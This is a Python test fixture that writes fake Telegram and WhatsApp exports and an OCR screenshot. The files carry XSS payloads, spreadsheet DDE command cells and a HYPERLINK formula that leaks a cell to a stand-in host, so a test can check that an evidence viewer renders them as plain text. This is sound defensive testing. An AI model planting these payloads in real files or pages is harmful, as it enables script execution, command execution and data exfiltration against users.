"""Script and spreadsheet-formula payloads, and a case folder of exports that carry them everywhere a
stalker controls text: sender names, conversation names, message bodies, a screenshot read by OCR, and
file names. Shared by the end-to-end injection test and any later viewer check (write_sources, then
ingest, then open the view and assert `executed(...)` is empty and each payload shows as text).
"""

from __future__ import annotations

import json
from pathlib import Path

# Each script payload calls alert() with its own marker, so a page that ran one can say which.
SCRIPT_PAYLOADS = {
    "script_tag": "<script>alert('xss-script')</script>",
    "img_onerror": "<img src=x onerror=alert('xss-img')>",
    "svg_onload": "\"><svg onload=alert('xss-svg')>",
}
# Cells a spreadsheet would run: a formula, a DDE command, and tab or carriage return before one.
FORMULA_PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "dde_plus": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-1+1",
    "tab_leading": "\t=1+2",
    "cr_leading": "\r=1+3",
}
PAYLOADS = {**SCRIPT_PAYLOADS, **FORMULA_PAYLOADS}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Lines drawn on the screenshot: what OCR must carry through as text (no tab or CR can be drawn).
OCR_LINES = ("<script>alert(1)</script>", '=HYPERLINK("evil")', "<img src=x onerror=alert(2)>")
FILE_NAME_PAYLOADS = {k: v for k, v in PAYLOADS.items() if "/" not in v and "\r" not in v}
STALKER = "+447700900123"

# Script for the page under test, run before any of its own: records dialogs instead of showing them.
DIALOG_HOOK = (
    "window.__dialogs = [];"
    "window.alert = window.confirm = window.prompt = function (m) { window.__dialogs.push(String(m)); };"
)
# Script that lists what an injected payload would have left in the page: dialogs, event-handler
# attributes, and elements no report renders from evidence (runnable script tags holding a payload (data
# in a JSON script block is inert),
# inline SVG outside its charts, images that are not embedded thumbnails).
INJECTED_STATE = (
    "return {"
    " dialogs: window.__dialogs || [],"
    " handlers: Array.from(document.querySelectorAll('*')).filter(function (e) {"
    "   return Array.from(e.attributes).some(function (a) { return a.name.indexOf('on') === 0; }); })"
    "   .map(function (e) { return e.outerHTML.slice(0, 120); }),"
    " scripts: Array.from(document.scripts).filter(function (s) {"
    "   return s.type !== 'application/json' && s.textContent.indexOf('xss-') >= 0; }).length,"
    " svgs: Array.from(document.querySelectorAll('svg')).filter(function (s) { return !s.closest('.chart') && !s.classList.contains('chart'); }).length,"
    " images: Array.from(document.images).filter(function (i) { return i.getAttribute('src') === 'x'; }).length,"
    " text: document.body.textContent"
    "};"
)


def _telegram_chat(conversation: str, chat_id: int, senders: dict[str, str], start: int) -> dict:
    messages = []
    names = list(senders.values())
    for index, text in enumerate(PAYLOADS.values()):
        messages.append(
            {
                "id": index + 1,
                "type": "message",
                "date": "2024-03-01T21:00:00",
                "date_unixtime": str(start + 60 * index),
                "from": names[index % len(names)],
                "from_id": f"user{7000 + index % len(senders)}",
                "text": text,
            }
        )
    return {"name": conversation, "type": "personal_chat", "id": chat_id, "messages": messages}


def write_sources(root: Path) -> Path:
    """A folder of exports carrying every payload in every place a stalker's text can reach."""
    from screenshot_generator import ChatLine, sample_spec, save

    source = root / "payload-sources"
    source.mkdir(parents=True)
    # Telegram full-account export: one chat named after each payload, senders named after payloads,
    # every payload as a message body (JSON keeps tabs and carriage returns exactly).
    chats = [
        _telegram_chat(conversation, 100 + n, PAYLOADS, 1709326800 + 3600 * n)
        for n, conversation in enumerate(PAYLOADS.values())
    ]
    export = {"about": "Telegram export", "personal_information": {}, "chats": {"list": chats}}
    (source / "result.json").write_text(json.dumps(export), encoding="utf-8")
    # WhatsApp exports whose file names (and so conversation names) are payloads.
    for n, name in enumerate(FILE_NAME_PAYLOADS.values()):
        lines = "".join(
            f"02/03/2024, 22:{n:02d} - +44 7700 900123: {body}\n"
            for body in (SCRIPT_PAYLOADS["img_onerror"], FORMULA_PAYLOADS["hyperlink"], f"file {n}")
        )
        (source / f"WhatsApp Chat with {name}.txt").write_text(lines, encoding="utf-8")
    spec = sample_spec(
        contact="Jordan",
        messages=[ChatLine("in", text, f"21:0{n}") for n, text in enumerate(OCR_LINES)],
        width=720,
        font_size=24,
    )
    save(spec, source / "Screenshot_20240312-211500.png")
    return source


def payload_strings() -> list[str]:
    """Every payload text as it must appear, unchanged, in the database and in JSON exports."""
    return list(PAYLOADS.values())
